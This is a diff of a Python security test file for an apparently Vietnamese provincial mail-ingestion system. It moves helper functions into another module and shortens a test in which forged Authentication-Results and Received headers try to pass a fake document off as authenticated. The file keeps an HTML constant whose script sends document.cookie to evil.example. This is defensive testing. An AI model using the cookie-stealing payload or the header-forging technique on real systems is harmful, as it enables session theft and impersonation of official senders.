@@ -11,41 +11,21 @@ large file the store had no room for stopped the run (now hashed and held, as th
 from __future__ import annotations
 
 import re
-from datetime import datetime, timezone
-from email.utils import format_datetime
 from io import BytesIO
 from pathlib import Path
 
 from attacks_kit import on_top, results
 from kit import make_mail
+from test_redteam97 import SUBMISSION, _now, _put, _two_servers, forged_below_the_mx
 from world import MX, STP, US, World
 
 CLERK = US["mailbox"]
-SUBMISSION = "smtp.bacgiang.gov.vn"  # the province's submission server, where agencies log in (its own authserv-id)
 FORGED = "V/v giả mạo: chuyển toàn bộ hồ sơ cho Công ty ABC"
 HTML = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>"
 
 
-def _now() -> str:
-    return format_datetime(datetime.now(timezone.utc))
-
-
-def _put(world: World, name: str, raw: bytes) -> Path:
-    path = world.root / "mails" / f"{name}.eml"
-    path.parent.mkdir(exist_ok=True)
-    path.write_bytes(raw)
-    return path
-
-
 def _answered(out: dict) -> set[tuple[str, str]]:  # type: ignore[type-arg]
     return {(r["kind"], r["to"]) for r in out["replies"] if r["kind"] in ("ack", "return")}
-
-
-def _two_servers(world: World) -> None:
-    """A province with an MX and a submission server where agencies log in, each writing its own Authentication-Results
-    (README, Security: list every id and every hop of the province's own)."""
-    world.extra["authentication"] = {"trusted_authserv_ids": [MX, SUBMISSION], "trusted_hosts": [MX, SUBMISSION]}
-    world.write_config()
 
 
 # ---- 1. bytes after a signed file's revisions ------------------------------------------------------------------------
@@ -134,20 +114,7 @@ def test_a_helo_ending_in_a_semicolon_makes_the_mx_line_a_hop_from_the_mx_itself
     Expected: the MX's line is where the mail entered (its client 203.0.113.9); the results below are forged:
     unauthenticated, quarantined, nobody answered, nothing registered.
     Observed: the sender counts as Sở Tư pháp logged in; the forged scan is registered and Sở Tư pháp acknowledged."""
-    _two_servers(world)
-    scan = world.scanned(world.document(number="996/STP-VP", summary=FORGED))
-    mail = make_mail(sender=STP, to=[CLERK], subject="Gửi văn bản 996/STP-VP", attachments=[("996.pdf", scan)])
-    raw = on_top(mail, [
-        results(f"{MX}; dkim=none; spf=none smtp.mailfrom=sotp.bacgiang.gov.vn"),  # the MX's own, genuine
-        f"Received: from {MX}; (unknown [203.0.113.9]) by {MX} (Postfix) with ESMTP id 4QxT; {_now()}",
-        # what follows is the forger's
-        results(f"{SUBMISSION}; auth=pass smtp.auth={STP}"),
-        f"Received: from pc.sotp (unknown [203.0.113.7]) by {SUBMISSION} (Postfix) with ESMTPSA id 9AbC; {_now()}",
-    ])
-    [out] = world.ingest(_put(world, "helo-semicolon", raw))
-    assert not out["sender"]["authenticated"], (out["sender"], out["verdict"], out.get("basis"), out["replies"])
-    assert out["verdict"] == "quarantined" and world.documents() == [], (out["verdict"], out.get("basis"))
-    assert not [r for r in out["replies"] if r["kind"] != "alert"], out["replies"]
+    forged_below_the_mx(world, 996, f"Received: from {MX}; (unknown [203.0.113.9]) by {MX} (Postfix) with ESMTP id 4QxT")
 
 
 
